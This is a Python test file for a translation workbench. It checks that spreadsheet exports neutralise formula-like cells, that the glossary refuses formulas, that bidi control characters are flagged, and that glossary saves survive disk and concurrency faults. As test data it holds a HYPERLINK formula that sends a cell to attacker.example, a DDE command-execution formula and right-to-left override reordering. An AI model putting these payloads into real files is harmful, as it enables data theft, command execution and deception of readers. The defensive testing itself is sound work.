"""Issue 21, items 6, 13 and 9 (glossary): spreadsheet formulas in CSV/TSV exports and in the glossary, invisible
bidi controls in translations, and glossary saves on a full disk, a read-only home and from racing API clients."""

from __future__ import annotations

import csv
import io
import json
import socket

import pytest

from workbench.app.ui import glossary as glossary_panel
from workbench.exchange.registry import spreadsheet_cell
from workbench.exchange.results import article_record, render_results
from workbench.review import glossary as g
from workbench.review.glossary import version as glossary_version
from workbench.review.qa import FLAG_HELP, bidi_controls, review

ARTICLE = "003_70140ed69b948bf5"
HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " =1+1", '"=1+1']


def _body(wb, n: int = 0) -> dict:
    return [s for s in wb.article(ARTICLE).to_dict()["segments"] if s["kind"] == "body"][n]


def _save(wb, seg: dict, text: str, author: str) -> None:
    wb.save(ARTICLE, seg["id"], "en", text, author=author, base_revision_id=seg["targets"]["en"]["revision_id"])


def _cells(table: list[list[str]]) -> list[str]:
    return [c for row in table for c in row]


# --------------------------------------------------------------------------- item 6: CSV/TSV formulas
@pytest.mark.parametrize("value", [*HOSTILE, DDE, "-5"])
def test_a_cell_that_starts_like_a_formula_gets_a_leading_quote(value):
    assert spreadsheet_cell(value) == "'" + value
    assert not g.starts_like_formula(spreadsheet_cell(value))


@pytest.mark.parametrize("value", ["Lavrov said", "5", "0.9876", "", "a=1", "'=1+1", "«=»", "Moscow - Astana"])
def test_ordinary_cells_are_left_alone(value):
    assert spreadsheet_cell(value) == value


def test_csv_and_tsv_exports_carry_no_formula(translated):
    """The found step: a reviewer's text =HYPERLINK(…) and an author =cmd|' /C calc'!A0 came out verbatim."""
    first, second = _body(translated, 0), _body(translated, 1)
    _save(translated, first, HYPERLINK, DDE)
    _save(translated, second, "-5", "@mallory")
    data, _ = translated.render_export([ARTICLE], ["en"], "csv")
    text = data.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    header, table = rows[0], rows[1:]
    by_segment = {r[header.index("segment_id")]: dict(zip(header, r, strict=True)) for r in table}
    assert by_segment[first["id"]]["target"] == "'" + HYPERLINK and by_segment[first["id"]]["author"] == "'" + DDE
    assert by_segment[second["id"]]["target"] == "'-5" and by_segment[second["id"]]["author"] == "'@mallory"
    assert '"\'=HYPERLINK(""http://attacker.example/?""&A1,""click"")"' in text  # quoted, quotes doubled
    assert all(line.startswith('"') for line in text.splitlines())  # every cell is quoted
    assert not any(g.starts_like_formula(c) for c in _cells(rows))
    assert by_segment[first["id"]]["confidence"] == ""  # numbers stay numbers (edited: no confidence)

    tsv, _ = translated.render_export([ARTICLE], ["en"], "tsv")
    lines = [line.split("\t") for line in tsv.decode("utf-8").splitlines()]
    assert all(len(line) == 14 for line in lines)  # still one line per segment, 14 columns
    assert "'" + HYPERLINK in _cells(lines) and "'" + DDE in _cells(lines) and "'-5" in _cells(lines)
    assert not any(g.starts_like_formula(c) for c in _cells(lines))


def test_tsv_cells_with_tabs_and_line_breaks_stay_one_cell(translated):
    seg = _body(translated)
    _save(translated, seg, "harmless\t=1+1\r\n@SUM(A1)", "\t=evil")
    tsv, _ = translated.render_export([ARTICLE], ["en"], "tsv")
    lines = [line.split("\t") for line in tsv.decode("utf-8").splitlines()]
    row = next(line for line in lines if line[1] == seg["id"])
    assert len(row) == 14 and row[6] == "harmless =1+1  @SUM(A1)" and row[9] == "' =evil"


def test_translate_results_csv_carries_no_formula(translated):
    """`translate --out results.csv`: titles, translations and summaries are neutralised too."""
    record = article_record(translated.article(ARTICLE), ["en"])
    record["title"], record["source"] = DDE, "@source"
    record["translations"]["en"], record["summaries"]["en"] = HYPERLINK + "\n\nMore text.", "-5 dollars"
    rows = list(csv.reader(io.StringIO(render_results([record], "csv").decode("utf-8"))))
    values = dict(zip(rows[0], rows[1], strict=True))
    assert values["title"] == "'" + DDE and values["source"] == "'@source"
    assert values["translation_en"] == "'" + HYPERLINK + "\n\nMore text." and values["summary_en"] == "'-5 dollars"
    assert values["id"] == ARTICLE and values["status_en"] == "machine"
    assert not any(g.starts_like_formula(c) for c in _cells(rows))
    assert json.loads(render_results([record], "jsonl"))["title"] == DDE  # JSONL is data, not a spreadsheet


# --------------------------------------------------------------------------- item 6: the glossary
@pytest.mark.parametrize("column", [1, 2, 3])
def test_a_glossary_row_with_a_formula_is_refused_and_nothing_is_saved(wb, column):
    rows = wb.glossary().to_rows()
    base = glossary_version(wb.store)
    bad = ["موسكو", "Moscow", "Москва", "capital"]
    bad[column] = HYPERLINK
    result = glossary_panel.save_table(wb, [*rows, bad], base, "mallory")
    assert result["ok"] is False and "would run as a formula in a spreadsheet" in result["error"]
    assert g.COLUMNS[column] in result["error"] and f":{len(rows) + 2}:" in result["error"]  # the line
    assert glossary_version(wb.store) == base and g.history(wb.store) == []  # nothing written


def test_an_old_hand_edited_glossary_with_a_formula_is_not_imported_and_says_so(tmp_path):
    from workbench.store import Store

    (tmp_path / g.FILENAME).write_text("ar,en,ru,note\nموسكو,Moscow,Москва,\nلافروف,=cmd|' /C calc'!A0,Лавров,\n",
                                       encoding="utf-8")
    with Store(tmp_path / "workbench.sqlite") as store:
        glossary = g.load(store)
        assert len(glossary) == len(g.parse_csv(g.STARTER.read_text(encoding="utf-8"))) and g.history(store) == []
        assert len(glossary.problems) == 1 and ":3: the en cell" in glossary.problems[0]
        assert "was not imported, the starter glossary is used" in glossary.problems[0]
        assert not any(g.starts_like_formula(c) for c in _cells(glossary.to_rows()))  # the table never shows it


# --------------------------------------------------------------------------- item 13: bidi controls
@pytest.mark.parametrize("control", ["\u202e", "\u2067", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u2066",
                                     "\u2068", "\u2069", "\u200e", "\u061c"])
def test_a_bidi_control_in_a_translation_is_flagged(control):
    flags, details = review("قال لافروف إن الحل مشترك", f"Lavrov said the {control}solution is joint", "ar", "en")
    assert "bidi_control" in flags
    assert any(f"U+{ord(control):04X}" in d for d in details)


def test_bidi_marks_carried_over_from_the_source_at_the_same_place_are_not_flagged():
    source = "زار \u200fRosatom\u200f موسكو في 2024\u200f م"
    assert bidi_controls(source, "visited \u200fRosatom\u200f in Moscow") == []  # copied with the name
    assert "bidi_control" not in review(source, "He visited Rosatom in Moscow in 2024", "ar", "en")[0]
    assert "bidi_control" not in review(source, source.replace("موسكو", "Moscow"), "ar", "en")[0]
    moved = bidi_controls(source, "visited Ros\u200fatom in Moscow")  # an RLM the source has, elsewhere
    assert moved == ["U+200F RIGHT-TO-LEFT MARK at 11"]
    assert bidi_controls(source, "visited \u202eRosatom\u202c") != []  # other controls are never the source's


def test_trojan_source_reordering_in_a_saved_translation_is_flagged_in_the_article(translated):
    assert "Trojan Source" in FLAG_HELP["bidi_control"]
    seg = _body(translated)
    _save(translated, seg, "The deal is worth \u202e000,01\u202c dollars", "mallory")
    unit = next(s for s in translated.article(ARTICLE).to_dict()["segments"] if s["id"] == seg["id"])["targets"]["en"]
    assert "bidi_control" in unit["flags"]
    assert any("U+202E RIGHT-TO-LEFT OVERRIDE" in d for d in unit["qa"])
    other = _body(translated, 1)["targets"]["en"]
    assert "bidi_control" not in other["flags"]  # the tiny models' output has none


# --------------------------------------------------------------------------- item 9: glossary faults
def test_glossary_save_on_a_full_disk_is_one_line_and_writes_nothing(wb):
    from workbench.app.ui.glossary import save_table

    base = glossary_version(wb.store)
    rows = wb.glossary().to_rows()
    pages = wb.store.conn.execute("PRAGMA page_count").fetchone()[0]
    wb.store.conn.execute(f"PRAGMA max_page_count = {pages}")  # SQLite now answers SQLITE_FULL
    try:
        result = save_table(wb, [*rows, *[["طشقند", f"Tashkent {i}", "Ташкент", "x" * 900] for i in range(100)]],
                            base, "bob")
    finally:
        wb.store.conn.execute("PRAGMA max_page_count = 1073741823")
    assert result["ok"] is False and "disk is full" in result["error"] and "nothing of this change was saved" in result["error"]
    assert glossary_version(wb.store) == base and g.history(wb.store) == [] and wb.glossary().to_rows() == rows


def test_glossary_save_on_a_read_only_home_is_one_line_and_writes_nothing(wb, monkeypatch):
    from workbench import Workbench
    from workbench.app.ui.glossary import save_table
    from workbench.store import database

    base = glossary_version(wb.store)
    wb.close()
    monkeypatch.setattr(database, "writable", lambda path: False)  # as a read-only mount (root ignores file modes)
    with Workbench(wb.home) as other:
        result = save_table(other, [*other.glossary().to_rows(), ["طشقند", "Tashkent", "Ташкент", ""]], base, "bob")
        assert result["ok"] is False and "read-only" in result["error"] and "nothing can be saved" in result["error"]
        assert glossary_version(other.store) == base and g.history(other.store) == []


def test_a_glossary_save_without_a_base_version_is_a_conflict(wb):
    from workbench.app.ui.glossary import save_table

    rows = wb.glossary().to_rows()
    for base in ("", None, "   ", 5):
        result = save_table(wb, rows[:2], base, "api")
        assert result["ok"] is False and result["conflict"] and result["current_version"] == glossary_version(wb.store)
    assert len(wb.glossary().to_rows()) == len(rows)
    for table, why in (("rows", "list of rows"), ([["a", True, "b"]], "must be text"), ([["موسكو", 5, "Москва"]], "must be text"),
                       ([["x" * 3000, "y", "z"]], "longer"), ([["a", "b", "c"]] * 20_001, "more than")):
        result = save_table(wb, table, glossary_version(wb.store), "api")
        assert result["ok"] is False and why in result["error"]
    payload = {"headers": list(g.COLUMNS), "data": [["موسكو", "Moscow", "Москва", None]]}
    assert save_table(wb, payload, glossary_version(wb.store), "api") == {
        "ok": True, "terms": 1, "version": glossary_version(wb.store)}


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.mark.slow
def test_three_api_clients_cannot_replace_each_others_glossary(wb):
    """The found step: three gradio_client scripts saved the glossary through the page's `/save` (no base
    version) and replaced each other's. Now `/save_glossary` takes the version from `/get_glossary`."""
    from gradio_client import Client

    from workbench.app.ui import build_app

    app = build_app(wb)
    port = _free_port()
    app.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True, ssr_mode=False)
    try:
        clients = [Client(f"http://127.0.0.1:{port}/", verbose=False) for _ in range(3)]
        assert "/save" not in clients[0].view_api(print_info=False, return_format="dict")["named_endpoints"]
        loaded = [c.predict(api_name="/get_glossary") for c in clients]
        assert len({r["version"] for r in loaded}) == 1
        results = [c.predict([*r["rows"], ["طشقند", f"Tashkent {i}", "Ташкент", f"client {i}"]], r["version"], f"c{i}",
                             api_name="/save_glossary") for i, (c, r) in enumerate(zip(clients, loaded, strict=True))]
        assert [r["ok"] for r in results] == [True, False, False]
        assert results[1]["conflict"] and results[2]["current_version"] == results[0]["version"]
        no_base = clients[1].predict(loaded[1]["rows"][:1], "", "c1", api_name="/save_glossary")
        assert no_base["ok"] is False and no_base["conflict"]
        notes = [row[3] for row in clients[2].predict(api_name="/get_glossary")["rows"]]
        assert "client 0" in notes and "client 1" not in notes and "client 2" not in notes
        assert g.history(wb.store)[0]["replaced_by"] == "c0"
    finally:
        app.close()


def test_a_bidi_control_blocks_approval_until_fixed_or_overridden(translated):
    from workbench.app import operations as ops

    article = "003_70140ed69b948bf5"
    rows = [s for s in translated.article(article).to_dict()["segments"] if s["kind"] != "meta"]
    for seg in rows:
        unit = seg["targets"]["en"]
        text = "Safe text." if seg is not rows[0] else "Pay \u202e0001\u202c dollars."
        assert ops.save_unit(translated, article_id=article, unit=seg["id"], language="en", text=text, base_revision_id=unit["revision_id"], author="mona")["ok"]
    refused = ops.approve(translated, article_id=article, language="en", author="chief")
    assert refused["ok"] is False and "bidi_control" in refused["error"]
    done = ops.approve(translated, article_id=article, language="en", author="chief", override="checked the order by hand")
    assert done["ok"] and translated.article(article).to_dict()["status_override"]["en"]


# --------------------------------------------------------------------------- issue 27, item 8: XML-invalid characters
@pytest.mark.parametrize("fmt", ["xliff", "tmx", "docx"])
def test_a_control_character_in_a_comment_author_or_a_text_exports(translated, tmp_path, fmt):
    """One comment author containing \\x02 stopped `export --format xliff` (lxml refuses it in an attribute)."""
    from click.testing import CliRunner
    from lxml import etree

    from workbench.app import operations_cat as cat
    from workbench.app.cli import cli

    seg = _body(translated)
    assert cat.add_comment(translated, article_id=ARTICLE, unit=seg["id"], language="en", text="see\x02 this\x1f", author="a\x02b")["ok"]
    _save(translated, seg, "Lavrov\x07 said\x0b so.", author="c\x02d")
    out = tmp_path / f"out.{fmt}"
    result = CliRunner().invoke(cli, ["--home", str(translated.home), "export", ARTICLE, "--to", "en",
                                      "--format", fmt, "--out", str(out)])
    assert result.exit_code == 0, result.output
    if fmt == "docx":
        return
    root = etree.fromstring(out.read_bytes())  # well-formed XML 1.0
    text = etree.tostring(root, encoding="unicode")
    assert "Lavrov\ufffd said\ufffd so." in text
    if fmt == "xliff":
        assert 'from="a\ufffdb"' in text and "see\ufffd this" in text
    else:
        assert "c\ufffdd" in text
